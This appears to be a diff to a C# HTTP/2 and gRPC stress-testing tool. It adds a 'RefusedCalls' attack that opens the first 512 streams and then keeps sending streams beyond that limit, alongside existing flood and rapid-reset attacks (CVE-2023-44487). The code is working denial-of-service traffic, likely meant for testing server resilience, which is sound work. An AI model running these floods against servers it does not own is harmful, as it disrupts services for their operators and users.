@@ -27,6 +27,9 @@ internal enum AttackKind
     /// <summary>Calls reset as soon as they are begun (CVE-2023-44487).</summary>
     RapidResets,
 
+    /// <summary>As many calls as a connection may have, and then calls that it may not.</summary>
+    RefusedCalls,
+
     /// <summary>Pings and settings that each ask for an answer.</summary>
     ControlFloods,
 
@@ -108,6 +111,7 @@ internal sealed class Attack(AttackKind kind, Uri grpc, Uri http, int connection
         AttackKind.GiantFrames => SendPiecesAsync(connection, GiantFrame, pause, cancellation),
         AttackKind.HeaderFloods => SendPiecesAsync(connection, HeaderFlood, pause, cancellation),
         AttackKind.RapidResets => SendPiecesAsync(connection, RapidReset, pause, cancellation),
+        AttackKind.RefusedCalls => SendPiecesAsync(connection, RefusedCalls, pause, cancellation),
         AttackKind.ControlFloods => SendPiecesAsync(connection, ControlFlood, pause, cancellation),
         _ => Task.CompletedTask,
     };
@@ -190,6 +194,15 @@ internal sealed class Attack(AttackKind kind, Uri grpc, Uri http, int connection
             .. RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, (2 * call) + 1, RawHttp2.CallBlock(grpc, Method)),
             .. RawHttp2.Frame(RawHttp2.Reset, 0, (2 * call) + 1, [0, 0, 0, 8]),
         ])];
+    }
+
+    /// <summary>The first 512, which is what a server allows unless told otherwise, run; the rest are refused one by one.</summary>
+    private byte[] RefusedCalls(int index)
+    {
+        const int allowed = 512;
+        const int calls = 100;
+        (int first, int count) = index == 0 ? (0, allowed) : (allowed + ((index - 1) * calls), calls);
+        return [.. Enumerable.Range(first, count).SelectMany(call => RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, (2 * call) + 1, RawHttp2.CallBlock(grpc, Method)))];
     }
 
     private static byte[] ControlFlood(int index)
